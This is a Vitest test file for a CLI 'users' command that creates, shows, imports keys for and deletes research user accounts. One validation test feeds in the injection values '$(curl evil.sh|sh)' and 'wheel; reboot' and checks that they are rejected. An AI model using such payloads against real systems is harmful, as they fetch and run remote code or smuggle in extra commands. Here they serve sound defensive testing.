import { stat, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { runUsersCommand } from '../../source/commands/usersCommand.js';
import { generateSshKeyPair } from '../../source/core/identity/sshKeyPair.js';
import { runCommand, testEnvironment } from './commandHarness.js';

describe('cws-tui users', () => {
  it('creates a user on the demo account with a UID from 5000 and a 0600 private key', async () => {
    const env = testEnvironment();
    const created = await runCommand(runUsersCommand, ['create', 'alice'], env, {
      fullName: 'Alice A',
      email: 'a@x.edu',
      group: ['admin', 'docker'],
    });
    const keyPath = join(env.CWS_STATE_DIR ?? '', 'keys', 'alice_ed25519');
    expect(created.stdout).toBe(
      `created research user 'alice' with UID 5000\nprivate key: ${keyPath} (mode 0600)\n`,
    );
    expect((await stat(keyPath)).mode & 0o777).toBe(0o600);

    const shown = JSON.parse(
      (await runCommand(runUsersCommand, ['show', 'alice'], env, { json: true })).stdout,
    ) as Record<string, unknown>;
    expect(shown).toMatchObject({
      username: 'alice',
      uid: 5000,
      gid: 5000,
      full_name: 'Alice A',
      email: 'a@x.edu',
      groups: ['admin', 'docker'],
    });
    expect((await runCommand(runUsersCommand, ['list'], env)).stdout).toMatch(
      /alice\s+5000\s+5000\s+Alice A\s+a@x.edu\s+1/,
    );
  });

  it('imports a public key from a file', async () => {
    const env = testEnvironment();
    const { publicKey } = generateSshKeyPair('bob@laptop');
    const file = join(env.HOME ?? '', 'bob.pub');
    await writeFile(file, `${publicKey}\n`);
    const created = JSON.parse(
      (await runCommand(runUsersCommand, ['create', 'bob'], env, { sshPublicKey: file, json: true })).stdout,
    ) as Record<string, unknown>;
    expect(created.ssh_public_keys).toEqual([publicKey]);
    expect(created.ssh_private_key_path).toBeUndefined();
  });

  it('refuses injection attempts, duplicates, missing key files and unknown users', async () => {
    const env = testEnvironment();
    await expect(runCommand(runUsersCommand, ['create', '$(curl evil.sh|sh)'], env)).rejects.toThrow(
      '"$(curl evil.sh|sh)" is not a valid username',
    );
    await runCommand(runUsersCommand, ['create', 'alice'], env);
    await expect(runCommand(runUsersCommand, ['create', 'alice'], env)).rejects.toThrow(
      "a research user named 'alice' already exists",
    );
    await expect(
      runCommand(runUsersCommand, ['create', 'carol'], env, { sshPublicKey: '/nonexistent.pub' }),
    ).rejects.toThrow('cannot read the public key file /nonexistent.pub: no such file');
    await expect(
      runCommand(runUsersCommand, ['create', 'dave'], env, { group: ['wheel; reboot'] }),
    ).rejects.toThrow('"wheel; reboot" is not a valid group name');
    await expect(runCommand(runUsersCommand, ['show', 'nobody-here'], env)).rejects.toThrow(
      "no research user named 'nobody-here'",
    );
  });

  it('deletes a user and never hands the UID out again', async () => {
    const env = testEnvironment();
    await runCommand(runUsersCommand, ['create', 'alice'], env);
    const deleted = await runCommand(runUsersCommand, ['delete', 'alice'], env);
    expect(deleted.stdout).toContain("deleted research user 'alice' (UID 5000 is retired");
    const next = await runCommand(runUsersCommand, ['create', 'bob'], env);
    expect(next.stdout).toContain('UID 5001');
    await expect(runCommand(runUsersCommand, ['delete', 'alice'], env)).rejects.toThrow(
      "no research user named 'alice'",
    );
  });
});
